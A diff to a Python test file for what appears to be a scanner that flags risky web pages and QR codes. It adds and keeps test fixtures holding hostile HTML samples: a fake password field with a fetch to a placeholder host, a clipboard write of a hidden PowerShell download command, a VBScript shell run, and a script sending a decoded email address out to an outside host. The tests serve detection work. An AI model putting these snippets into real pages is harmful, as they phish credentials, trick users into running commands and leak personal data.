@@ -213,6 +213,7 @@ def test_f21_what_a_telephone_would_do(words: str, severity: Severity, weight: i
         code("https://x.example/", dark="white", light="black"),
         code("https://x.example/", scale=1, border=1),
         code("https://x.example/", light=None),
+        code("https://x.example/", dark="white", light=None),
         beside(code("https://y.example/"), code("https://x.example/")),
         as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("RGB"), "JPEG"),
         as_file(Image.open(io.BytesIO(code("https://x.example/"))).convert("RGB"), "WEBP"),
@@ -334,6 +335,7 @@ TALE = "<p>" + "The editors met on Monday and spoke of many things. " * 20 + "</
         ('<html><img src="file://evil.example/a.png"></html>', 5),
         ('<html><form><input type="email" value="layla@reporter.example"></form></html>', 2),
         ("<html><script>var a = 1;</script></html>", 1),
+        ("<html><script>x.innerHTML = '<input type=password>'; fetch('https://x.example/')</script></html>", 6),
         ('<html><script src="https://x.example/a.js"></script></html>', 3),
         ("<html><script>navigator.clipboard.writeText('powershell -w h -c iwr x')</script></html>", 5),
         ('<html><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script></html>', 5),
@@ -366,6 +368,12 @@ def test_f10_a_page_that_does_more_than_show(content: str | bytes, weight: int) 
 def test_an_honest_page_is_left_alone(content: str, name: str) -> None:
     found = [one for one in findings_of(content.encode(), name) if one.look in OURS and one.weight]
     assert not found
+
+
+def test_a_page_that_knows_its_reader() -> None:
+    known = base64.b64encode(b"layla@reporter.example.").decode()
+    page = f"<html><script>var who = atob('{known[:-4]}'); location = 'https://x.example/#' + who</script></html>"
+    assert (Severity.MEDIUM, 2) in told(page.encode(), "a.html", "F10")
 
 
 def test_what_a_page_smuggles_is_looked_at_itself() -> None:
